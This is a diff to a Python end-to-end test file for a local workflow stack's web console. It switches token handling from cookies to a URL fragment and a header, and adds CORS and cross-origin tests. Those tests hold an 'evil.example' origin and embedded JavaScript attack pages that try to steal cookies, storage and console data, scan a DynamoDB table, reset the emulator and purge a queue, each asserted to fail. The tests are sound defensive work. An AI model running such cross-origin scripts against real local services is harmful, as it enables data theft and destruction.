@@ -12,13 +12,16 @@ import http.client
 import json
 import shutil
 import tempfile
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from engine.adapters.ledger import DynamoLedger
+from loom.console.auth import TOKEN_HEADER
 from loom.local.client import LocalApi, call, ok
 from loom.local.sigv4 import new_principal
 from loom.local.stack import LocalStack, StackOptions
@@ -29,6 +32,7 @@ pytestmark = [pytest.mark.e2e]
 ROOT = Path(__file__).resolve().parents[2]
 REPORTS = ROOT / "reports"
 CHROMEDRIVER = "/usr/bin/chromedriver"
+EVIL = "http://evil.example"
 CHROMIUM_FLAGS = (
     "--headless=new",
     "--no-sandbox",
@@ -76,7 +80,7 @@ def browser(stack: LocalStack) -> Iterator[Any]:
     # An explicit driver: selenium-manager never runs, so nothing is downloaded.
     driver = webdriver.Chrome(service=Service(executable_path=CHROMEDRIVER), options=options)
     driver.set_page_load_timeout(30)
-    driver.get(stack.console.url)  # the token becomes the session cookie
+    driver.get(stack.console.url)  # the fragment's token goes to this origin's sessionStorage
     REPORTS.mkdir(exist_ok=True)
     try:
         yield driver
@@ -126,14 +130,13 @@ def rows_with_state(driver: Any, state: str) -> list[Any]:
 
 
 def test_the_console_url_is_in_the_stack_file_and_the_proxy_reaches_the_real_control_plane(stack: LocalStack) -> None:
-    assert stack.info["console_url"] == stack.console.url and "?token=" in stack.console.url
+    assert stack.info["console_url"] == stack.console.url and "/#token=" in stack.console.url
     ex_id = start(stack.api, "order_fulfillment", {"order_id": "http-1", "amount": 1})
     conn = http.client.HTTPConnection("127.0.0.1", stack.console.port, timeout=30)
-    cookie = f"{stack.console.gate.cookie_name}={stack.console.gate.token}"
-    conn.request("GET", f"/api/executions/{ex_id}", headers={"Cookie": cookie})
+    conn.request("GET", f"/api/executions/{ex_id}", headers={TOKEN_HEADER: stack.console.gate.token})
     answer = conn.getresponse()
     assert answer.status == 200 and json.loads(answer.read())["id"] == ex_id
-    conn.request("GET", f"/api/executions/{ex_id}")  # no cookie: no data
+    conn.request("GET", f"/api/executions/{ex_id}")  # no token: no data
     refused = conn.getresponse()
     assert refused.status == 401 and ex_id.encode() not in refused.read()
 
@@ -159,22 +162,44 @@ def test_loom_console_serves_the_running_stack_from_its_stack_file(
     server = for_stackfile(stack.info, port=0).start()
     try:
         conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
-        cookie = {"Cookie": f"{server.gate.cookie_name}={server.gate.token}"}
-        conn.request("GET", "/api/workflows", headers=cookie)
+        session = {TOKEN_HEADER: server.gate.token}
+        conn.request("GET", "/api/workflows", headers=session)
         answer = conn.getresponse()
         assert answer.status == 200 and "order_saga" in {w["name"] for w in json.loads(answer.read())["workflows"]}
-        conn.request("GET", "/local/clock", headers=cookie)
+        conn.request("GET", "/local/clock", headers=session)
         assert conn.getresponse().status == 200  # a local stack: the kit's controls are there
         # Advance from this other process: the sweeper runs in a subprocess, even from a shell with no AWS keys.
         for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AWS_PROFILE"):
             monkeypatch.delenv(name, raising=False)
-        headers = {**cookie, "Origin": server.base_url, "Content-Type": "application/json"}
+        headers = {**session, "Origin": server.base_url, "Content-Type": "application/json"}
         conn.request("POST", "/local/clock/advance", body=b'{"duration": "1s"}', headers=headers)
         advanced = json.loads(conn.getresponse().read())
         assert advanced["advanced_seconds"] == 1 and isinstance(advanced["sweep"], dict), advanced
         assert server.gate.token != stack.console.gate.token  # its own session, its own token
     finally:
         server.stop()
+
+
+def test_a_foreign_origin_gets_no_cors_header_from_any_port_the_stack_opens(stack: LocalStack) -> None:
+    # moto's server reflected any Origin in Access-Control-Allow-Origin and allowed every method.
+    ports = {"emulator": stack.endpoint_url, "control plane": stack.api_url, "console": stack.console.base_url}
+    for name, base in ports.items():
+        assert base is not None
+        host = base.split("//", 1)[1]
+        for method, extra in (
+            ("OPTIONS", {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "x-amz-target"}),
+            ("GET", {}),
+            ("POST", {"Content-Type": "text/plain"}),
+        ):
+            conn = http.client.HTTPConnection(host, timeout=30)
+            path = "/moto-api/reset" if name == "emulator" and method == "POST" else "/"
+            conn.request(method, path, body=b"" if method == "POST" else None, headers={"Origin": EVIL, **extra})
+            answer = conn.getresponse()
+            answer.read()
+            allow = [h for h, _ in answer.getheaders() if h.lower().startswith("access-control-")]
+            assert allow == [], (name, method, allow)
+            assert answer.status >= 400 or name == "console", (name, method, answer.status)
+            conn.close()
 
 
 # ---------------------------------------------------------------- in the browser
@@ -515,3 +540,136 @@ def test_the_timeline_draws_the_agreed_api_fields_when_present(browser: Any, con
     assert f"{CONTRACT_ID}--2-1" in table  # the child, nested
     assert not browser.find_elements("css selector", "[data-nav=local]:not([hidden])")  # deployed: no local page
     shot(browser, "execution-contract")
+
+
+# ---------------------------------------------------------------- a page on another local port
+
+
+class Attacker:
+    """A web server on another 127.0.0.1 port: what the browser sends it, and what its page learns."""
+
+    def __init__(self, html: str) -> None:
+        self.seen: list[str] = []  # every request line, header and body it received
+        self.reports: list[dict[str, Any]] = []
+        page = html.encode()
+        attacker = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def log_message(self, *args: Any) -> None:
+                return
+
+            def _record(self) -> bytes:
+                length = int(self.headers.get("content-length") or 0)
+                body = self.rfile.read(length) if length else b""
+                attacker.seen.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
+                return body
+
+            def do_GET(self) -> None:
+                self._record()
+                self.send_response(200)
+                self.send_header("content-type", "text/html; charset=utf-8")
+                self.send_header("content-length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:
+                attacker.reports.append(json.loads(self._record() or b"{}"))
+                self.send_response(204)
+                self.end_headers()
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+# Everything a page on another port can try: read the console's data with the browser's cookies,
+# send a data call with a guessed header, read its own cookies and storage; then report.
+ATTACK_PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><script>
+(async () => {
+  const c = "{{console}}";
+  const out = {cookie: document.cookie, storage: JSON.stringify(sessionStorage), local: JSON.stringify(localStorage)};
+  async function attempt(name, url, init) {
+    try {
+      const r = await fetch(url, init);
+      out[name] = r.type + ":" + r.status + ":" + (await r.text()).slice(0, 200);
+    } catch (e) { out[name] = "blocked:" + e.name; }
+  }
+  await attempt("with_cookies", c + "/api/executions", {credentials: "include"});
+  await attempt("no_cors", c + "/api/executions", {credentials: "include", mode: "no-cors"});
+  await attempt("info", c + "/console.json", {credentials: "include"});
+  await attempt("header", c + "/api/executions", {headers: {"x-loom-console-token": "guess"}});
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+})();
+</script>"""
+
+
+def test_a_page_on_another_local_port_receives_nothing_of_the_console(browser: Any, stack: LocalStack) -> None:
+    token = stack.console.gate.token
+    browser.get(stack.console.url)  # a live session in this browser, as a user has one
+    wait_until(browser, "the list", lambda d: d.find_elements("css selector", "#executions tbody tr"))
+    assert token not in browser.current_url  # the fragment left the address bar
+    stored = browser.execute_script("return sessionStorage.getItem('loom-console-token')")
+    assert stored == token and browser.execute_script("return document.cookie") == ""
+    attacker = Attacker(ATTACK_PAGE.replace("{{console}}", stack.console.base_url))
+    try:
+        browser.get(attacker.url + "/")
+        wait_for("the page's report", lambda: attacker.reports, timeout=30)
+    finally:
+        attacker.stop()
+    (report,) = attacker.reports
+    received = "\n".join(attacker.seen) + json.dumps(report)
+    assert token not in received, "the console's token reached a server on another port"
+    headers = [line.lower() for request in attacker.seen for line in request.splitlines()]
+    assert not [h for h in headers if h.startswith("cookie:")], "the browser sent the console's cookie elsewhere"
+    assert report["cookie"] == "" and report["storage"] == "{}"
+    for name in ("with_cookies", "info", "header"):
+        assert report[name].startswith("blocked:"), (name, report[name])  # CORS: no answer to read
+    assert report["no_cors"].startswith("opaque:0:") and report["no_cors"].endswith(":")  # nothing readable
+
+
+# The emulator from a foreign page: read a Scan (moto reflected the Origin, so this worked),
+# reset everything with a "simple" POST (no preflight: the side effect happens even unread).
+EMULATOR_PAGE = """<!doctype html><meta charset=utf-8><title>elsewhere</title><script>
+(async () => {
+  const e = "{{emulator}}", out = {};
+  async function attempt(name, url, init) {
+    try {
+      const r = await fetch(url, init);
+      out[name] = r.type + ":" + r.status + ":" + (await r.text()).slice(0, 300);
+    } catch (err) { out[name] = "blocked:" + err.name; }
+  }
+  const scan = {"x-amz-target": "DynamoDB_20120810.Scan", "content-type": "application/x-amz-json-1.0"};
+  await attempt("scan", e + "/", {method: "POST", headers: scan, body: JSON.stringify({TableName: "{{table}}"})});
+  await attempt("reset", e + "/moto-api/reset", {method: "POST", mode: "no-cors"});
+  await attempt("dump", e + "/moto-api/data.json", {});
+  await attempt("queue", e + "/", {method: "POST", mode: "no-cors",
+    headers: {"content-type": "application/x-www-form-urlencoded"}, body: "Action=PurgeQueue&QueueUrl={{queue}}"});
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+})();
+</script>"""
+
+
+def test_a_page_on_another_origin_can_neither_read_nor_reset_the_emulator(browser: Any, stack: LocalStack) -> None:
+    ddb = stack.client("dynamodb")
+    ex_id = start(stack.api, "order_fulfillment", {"order_id": "page-1", "amount": 1})
+    wait_status(stack.api, ex_id, "SLEEPING")
+    before = ddb.scan(TableName=stack.refs["Table"])["Count"]
+    assert stack.endpoint_url is not None
+    page = EMULATOR_PAGE.replace("{{emulator}}", stack.endpoint_url).replace("{{table}}", stack.refs["Table"])
+    attacker = Attacker(page.replace("{{queue}}", stack.refs["StepQueue"]))
+    try:
+        browser.get(attacker.url + "/")
+        wait_for("the page's report", lambda: attacker.reports, timeout=30)
+    finally:
+        attacker.stop()
+    (report,) = attacker.reports
+    assert report["scan"].startswith("blocked:"), report["scan"]  # no CORS answer: nothing read
+    assert report["dump"].startswith("blocked:"), report["dump"]
+    assert ex_id not in json.dumps(report)
+    # The simple POSTs went out (no preflight) and were refused: nothing was reset or purged.
+    assert ddb.scan(TableName=stack.refs["Table"])["Count"] >= before > 0
+    assert status_of(stack.api, ex_id)["status"] in ("SLEEPING", "COMPLETED")
